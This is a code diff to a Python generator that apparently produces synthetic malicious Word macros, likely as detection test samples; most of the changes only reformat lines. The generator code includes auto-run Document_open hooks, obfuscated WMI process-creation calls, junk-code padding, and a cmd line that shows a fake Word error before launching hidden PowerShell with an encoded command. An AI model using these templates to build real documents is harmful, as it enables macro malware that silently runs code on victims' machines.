@@ -35,7 +35,7 @@ def junk(draw: Random) -> str:
         (
             f"Select Case {a}\nCase {number}\n{b} = CSng({number})\n{c} = Rnd({b})\nEnd Select\n",
             f"{a} = CDate({number}) + Log({b})\n{a} = Log({b})\n{a} = {b}\n{a} = {b}\n",
-            f'Rem {name(draw)} http://{letters(draw, 4, 8)}.example.com/{name(draw)} http://example.com/{name(draw)}\nDebug.Print "{a}"\n',
+            f'Rem {name(draw)} http://{letters(draw, 4, 8)}.example.com/{a} http://example.com/{c}\nDebug.Print "{a}"\n',
             f"While {a} = {number} + 1\nDim {c}()\nReDim {c}(3)\nWend\n{b} = {a}\n",
         )
     )
@@ -49,7 +49,9 @@ def wmi(draw: Random, text: str, place: str) -> Macro:
     owner = own if place == "page" else form
     get, start = draw.choice(("GetObject", "CreateObject")), draw.choice(("autoopen", "autoopen", "Document_open"))
     wrapper = draw.choice((f'Replace(a, "{between}", "")', f'Join(Split(a, "{between}"), "")'))
-    window = draw.choice(("ShowWindow = wdLinkNone", "ShowWindow = wdXMLValidationStatusOK", f"XSize = {name(draw)}", "ShowWindow = False"))
+    window = draw.choice(
+        ("ShowWindow = wdLinkNone", "ShowWindow = wdXMLValidationStatusOK", f"XSize = {name(draw)}", "ShowWindow = False")
+    )
     create = draw.choice((".Create(", ".Create#(", ". _\n _\nCreate("))
     code = (
         f'Function {main}()\nOn Error Resume Next\n{junk(draw)}x = "p" + {strip}({owner}.{small} + {owner}.{big})\n{junk(draw)}'
@@ -86,7 +88,8 @@ def group_name(draw: Random, text: str) -> Macro:
     code = (
         f"Function {main}()\nv = ChrW(wdKeyP) + {form}.{small}.Tag + {form}.{big}.GroupName\n{junk(draw)}"
         f'Set f = GetObject({cut}("{strewn(draw, WMI[1], between)}"))\nf. _\nshowwindow = False\n'
-        f'For {letters(draw, 8, 9)} = 1 To 1\nDo While GetObject({cut}("{strewn(draw, WMI[0], between)}")).Create({cut}(v), {name(draw)}, f, {name(draw)})\n'
+        f'For {letters(draw, 8, 9)} = 1 To 1\nDo While GetObject({cut}("{strewn(draw, WMI[0], between)}"))'
+        f".Create({cut}(v), {name(draw)}, f, {name(draw)})\n"
         f'Loop\nNext\nEnd Function\nFunction {cut}(a)\n{junk(draw)}{cut} = Join(Split(a, "{between}"), "")\nEnd Function\n'
     )
     start = f"Private Sub Document_open()\n{main}\nEnd Sub\n"
@@ -177,8 +180,12 @@ def page_of_2020(draw: Random, text: str) -> Macro:
         f'Function {strip}(a)\n{strip} = Join(Split(a, "{between}"), "")\nEnd Function\n'
     )
     start = f"Private Sub Document_open()\n{main}\nEnd Sub\n"
-    said = strewn(draw, "cmd cmd cmd cmd /c msg %username% /v Word experienced an error & P^Ow^er^she^L^L -w hidden -ENCOD ", between)
-    return Macro((Source(own, start, "document"), Source(module, code)), text=letters(draw, 4, 4) + said + strewn(draw, text, between))
+    said = strewn(
+        draw, "cmd cmd cmd cmd /c msg %username% /v Word experienced an error & P^Ow^er^she^L^L -w hidden -ENCOD ", between
+    )
+    return Macro(
+        (Source(own, start, "document"), Source(module, code)), text=letters(draw, 4, 4) + said + strewn(draw, text, between)
+    )
 
 
 def command_of_2019(draw: Random) -> str:
